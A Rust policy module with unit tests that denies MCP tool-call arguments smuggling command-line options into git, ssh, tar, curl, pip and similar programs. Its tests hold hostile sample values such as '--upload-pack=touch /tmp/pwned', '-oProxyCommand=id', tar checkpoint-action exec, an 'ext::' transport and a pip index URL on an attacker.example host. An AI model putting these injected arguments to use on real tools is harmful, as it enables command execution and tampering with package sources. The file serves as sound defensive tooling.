//! Denies tool-call arguments that smuggle command-line options into the
//! program a tool runs.
//!
//! Many MCP servers build an argument vector from a call: `git diff <target>`,
//! `ssh <host>`, `tar -xf <archive>`, `pip install <package>`. No shell is
//! involved, so shell metacharacters do nothing; but a value that starts with
//! `-` is read by the program as an option, not as the operand the tool
//! meant (`--output=/tmp/x` as a revision, `-oProxyCommand=…` as a host). The
//! policy therefore looks at argument *position*: what an argument is meant to
//! be (a URL, path, revision, branch, host, package, archive: read from its
//! name and the tool's schema) and whether the value is an option instead.
//!
//! | rule | what it finds | verdict |
//! |------|---------------|---------|
//! | `option-as-operand` | a value that starts with `-` where the tool expects a URL, path, revision, host, package… (`--orphan=x` as a branch) | deny |
//! | `option-in-operand` | an option after a space inside such a value (`http://x/ -o shell.php`) | deny |
//! | `dangerous-option` | an option that runs a program, rewrites configuration or redirects output or package sources, in any plain value: git `--upload-pack`, `--exec`, `-c core.sshCommand`; ssh `-oProxyCommand`; tar `--checkpoint-action`, `--to-command`, `-I`; rsync `-e`; curl and wget output, upload and config options; find `-exec`; docker `--privileged`, host mounts; npm `--registry`, pip `--index-url`… | deny |
//! | `config-injection` | git configuration that runs programs (`core.sshCommand`, `core.pager`, `core.hooksPath`, `core.fsmonitor`, `protocol.ext.allow`, the `ext::` transport) | deny |
//!
//! A shell command line (`command`, `script`) is left to `command-injection`:
//! options there are the user's own. Free text is not judged. A lone `-`
//! (standard input) and negative numbers are not options.

mod options;

use portcullis_sdk::{
    ArgumentKind, ArgumentText, Context, EventKind, Finding, Metadata, Outcome, Policy, ToolCall,
    Verdict, argument_texts, excerpt, export_policy, schema_property_description, words,
};

use options::{CONFIG_KEYS, dangerous_option};

/// The policy.
pub struct OptionInjection;

/// Argument names that hold an operand: something a program reads as a
/// file, a URL, a revision, a host or a package, never as an option.
const OPERAND_WORDS: &[&str] = &[
    "url",
    "uri",
    "link",
    "href",
    "endpoint",
    "path",
    "paths",
    "file",
    "files",
    "filename",
    "filepath",
    "dir",
    "directory",
    "folder",
    "repo",
    "repository",
    "revision",
    "rev",
    "ref",
    "refs",
    "branch",
    "commit",
    "sha",
    "tag",
    "target",
    "host",
    "hostname",
    "server",
    "remote",
    "package",
    "packages",
    "pkg",
    "module",
    "archive",
    "source",
    "src",
    "destination",
    "dest",
    "output",
    "input",
    "image",
    "container",
    "pattern",
    "glob",
    "query",
    "term",
    "base",
    "upstream",
    "origin",
    "address",
    "domain",
    "user",
    "username",
    "name",
];

/// Operands in which a space is not part of the value (a URL, a revision, a
/// host, a package): text after one is a second word on the command line.
const SPACELESS_WORDS: &[&str] = &[
    "url", "uri", "link", "href", "endpoint", "revision", "rev", "ref", "branch", "commit", "sha",
    "tag", "host", "hostname", "server", "remote", "package", "pkg", "module", "image", "upstream",
    "origin", "address", "domain",
];

impl Policy for OptionInjection {
    fn metadata() -> Metadata {
        Metadata::new("option-injection", env!("CARGO_PKG_VERSION")).on(EventKind::ToolCall)
    }

    fn check_call(_ctx: &Context, call: &ToolCall, _findings: &[Finding]) -> Outcome {
        let mut outcome = Outcome::allow();
        let arguments = call.arguments_json();
        let schema = call.tool.as_ref().map(|tool| tool.input_schema_json());
        for ArgumentText {
            field: pointer,
            key,
            text: value,
        } in argument_texts(&arguments)
        {
            let description =
                key.and_then(|key| schema_property_description(schema.as_ref()?, key));
            let kind = ArgumentKind::classify(&call.name, key, description, Some(value));
            if kind != ArgumentKind::Value {
                continue;
            }
            let key_words = key.map(words).unwrap_or_default();
            let has = |set: &[&str]| key_words.iter().any(|word| set.contains(&word.as_str()));
            if let Some((verdict, rule, why)) =
                judge(value, has(OPERAND_WORDS), has(SPACELESS_WORDS))
            {
                outcome.add(
                    verdict,
                    rule,
                    format!("{pointer}: `{}` {why}", excerpt(value)),
                    [],
                );
            }
        }
        outcome
    }
}

export_policy!(OptionInjection);

/// The verdict, rule and explanation for `value`, a plain value that is
/// an operand (`operand`) in which spaces separate words (`spaceless`).
fn judge(value: &str, operand: bool, spaceless: bool) -> Option<(Verdict, &'static str, String)> {
    let trimmed = value.trim_start();
    let tokens: Vec<&str> = trimmed.split_whitespace().collect();
    for (index, token) in tokens.iter().enumerate() {
        if !is_option(token) {
            continue;
        }
        let next = tokens.get(index + 1).copied();
        if let Some(what) = dangerous_option(token, next) {
            return Some((
                Verdict::Deny,
                "dangerous-option",
                format!("passes `{}`, which {what}", option_name(token)),
            ));
        }
    }
    let lower = trimmed.to_ascii_lowercase();
    if let Some(key) = CONFIG_KEYS.iter().find(|key| lower.contains(*key)) {
        return Some((
            Verdict::Deny,
            "config-injection",
            format!("sets `{key}`, git configuration that runs a program"),
        ));
    }
    if operand && tokens.first().is_some_and(|first| is_option(first)) {
        return Some((
            Verdict::Deny,
            "option-as-operand",
            format!(
                "starts with `{}`: the program reads it as an option, not as the operand this argument is",
                option_name(tokens[0])
            ),
        ));
    }
    // After a space: any option in a value that has no spaces of its own,
    // and a long option in any operand (`--x` is no part of a file name).
    let injected =
        |token: &&&str| is_option(token) && (spaceless || (operand && token.starts_with("--")));
    if let Some(option) = tokens.iter().skip(1).find(injected) {
        return Some((
            Verdict::Deny,
            "option-in-operand",
            format!(
                "carries the option `{}` after a space, a second word on the command line",
                option_name(option)
            ),
        ));
    }
    None
}

/// Whether `token` reads as an option: `-x`, `--long`, not `-`, `--` or a negative number.
fn is_option(token: &str) -> bool {
    let Some(rest) = token.strip_prefix('-') else {
        return false;
    };
    let rest = rest.strip_prefix('-').unwrap_or(rest);
    rest.starts_with(|c: char| c.is_ascii_alphabetic())
}

/// The option's name, without a value after `=`.
fn option_name(token: &str) -> &str {
    token.split_once('=').map_or(token, |(name, _)| name)
}

#[cfg(test)]
mod tests {
    use portcullis_sdk::serde_json::{Value, json};
    use portcullis_sdk::testing::{self, rules};

    use super::*;

    #[test]
    fn cases() {
        testing::check_cases::<OptionInjection>(include_str!("../cases.jsonl"));
    }

    fn check(tool: &str, arguments: Value) -> Outcome {
        testing::check_call::<OptionInjection>(tool, arguments)
    }

    #[test]
    fn an_option_where_an_operand_belongs_is_denied() {
        for (tool, key, value) in [
            ("git_log", "revision", "--all"),
            ("git_checkout", "branch_name", "-b"),
            ("read_file", "path", "--help"),
            ("npm_view", "package", "--json"),
        ] {
            let outcome = check(tool, json!({ key: value }));
            assert_eq!(rules(&outcome), ["option-as-operand"], "{key}: {value}");
            assert_eq!(outcome.verdict, Verdict::Deny);
        }
    }

    #[test]
    fn options_that_run_programs_are_denied_anywhere_in_a_value() {
        for (key, value) in [
            ("remote", "--upload-pack=touch /tmp/pwned"),
            ("host", "-o ProxyCommand=sh -c id"),
            ("host", "-oProxyCommand=id"),
            ("archive", "--checkpoint=1 --checkpoint-action=exec=sh x.sh"),
            ("args", "-e sh -c id"),
            ("flags", "--privileged"),
            (
                "extra",
                "--index-url https://mirror.attacker.example/simple",
            ),
            ("source", "--exec=id"),
        ] {
            let outcome = check("tool", json!({ key: value }));
            assert_eq!(rules(&outcome), ["dangerous-option"], "{key}: {value}");
        }
    }

    #[test]
    fn git_configuration_that_runs_programs_is_denied() {
        let outcome = check("git_clone", json!({ "config": "core.sshCommand=sh -c id" }));
        assert_eq!(rules(&outcome), ["config-injection"]);
        let outcome = check(
            "git_clone",
            json!({ "url": "ext::sh -c touch% /tmp/pwned" }),
        );
        assert_eq!(rules(&outcome), ["config-injection"]);
    }

    #[test]
    fn a_second_word_in_a_url_is_an_injected_option() {
        let outcome = check(
            "download",
            json!({ "url": "https://example.org/a.php -O /var/www/shell.php" }),
        );
        assert_eq!(rules(&outcome), ["option-in-operand"]);
        let outcome = check(
            "download",
            json!({ "url": "https://example.org/a.php --output-document=shell.php" }),
        );
        assert_eq!(rules(&outcome), ["dangerous-option"]);
        let outcome = check(
            "fetch",
            json!({ "url": "https://example.org/ --max-redirs 50" }),
        );
        assert_eq!(rules(&outcome), ["option-in-operand"]);
        // Quoted so that a shell, or a normalising server, splits it off.
        let outcome = check("save", json!({ "path": "\u{ff02} --no-clobber \u{ff02}" }));
        assert_eq!(rules(&outcome), ["option-in-operand"]);
        assert_eq!(
            check("save", json!({ "path": "My Files/a -b.txt" })).verdict,
            Verdict::Allow
        );
    }

    #[test]
    fn ordinary_values_prose_and_commands_are_allowed() {
        for arguments in [
            json!({ "revision": "feature/no-dash-here" }),
            json!({ "path": "notes/2024-01-01.md" }),
            json!({ "offset": "-5" }),
            json!({ "path": "-" }),
            json!({ "message": "- first item\n- second item" }),
            json!({ "command": "find . -name '*.rs' -exec wc -l {} +" }),
            json!({ "title": "Use --force with care" }),
        ] {
            assert_eq!(
                check("tool", arguments.clone()).verdict,
                Verdict::Allow,
                "{arguments}"
            );
        }
    }
}
